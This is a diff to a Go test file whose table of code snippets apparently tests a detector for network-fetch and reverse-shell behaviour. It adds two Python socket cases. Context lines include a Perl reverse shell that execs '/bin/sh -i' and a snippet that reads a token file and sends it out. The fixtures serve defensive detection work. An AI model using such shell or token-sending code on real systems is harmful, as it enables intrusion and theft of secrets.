@@ -53,6 +53,8 @@ func TestCode(t *testing.T) {
 		{"python", "import urllib.request, os, subprocess\nurllib.request.urlretrieve('https://geo.example/db.tgz', '/var/lib/geo/db.tgz')\nos.chmod('/var/lib/geo/db.tgz', 0o644)\nsubprocess.check_call(['systemctl', 'reload', 'nginx'])\n", "interpreter_fetch"},
 		{"python", "import base64, re, requests, subprocess\nT = base64.b64decode(open('/etc/app/token').read())\nx = re.compile('a')\nr = requests.get('https://api.example/v1', headers={'a': T})\nsubprocess.run(['mail', 'ops'], input=r.content)\n", "interpreter_fetch"},
 		{"python", "import base64\n" + library + "def g(x):\n    return base64.b64decode(x)\n" + library + "exec(open('/etc/app.py').read())\n", ""},
+		{"python", "import socket,sys\ns=socket.socket()\ns.bind(('', 80))\ns.listen(5)\nwhile True:\n    c,a=s.accept()\n    c.sendall(b'token')\n", ""},
+		{"python", "import socket\ns=socket.socket()\ns.bind(('', 80))\ns.listen(5)\nd=socket.create_connection(('203.0.113.77', 80)).recv(99)\n", "interpreter_fetch"},
 		{"perl", "use Socket;\n" + library + "sub answer { open(STDIN, \"<&SOCK\"); exec($cgi); }\n" + library + "connect(SOCK, $p);\n", ""},
 		{"perl", library + "use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,$p); open(STDIN,\">&S\"); exec(\"/bin/sh -i\");\n" + library, "reverse_shell"},
 		{"perl", "use Socket; socketpair(A, B, AF_UNIX, SOCK_STREAM, PF_UNSPEC); exec('/bin/sh', '-c', 'ls');", ""},
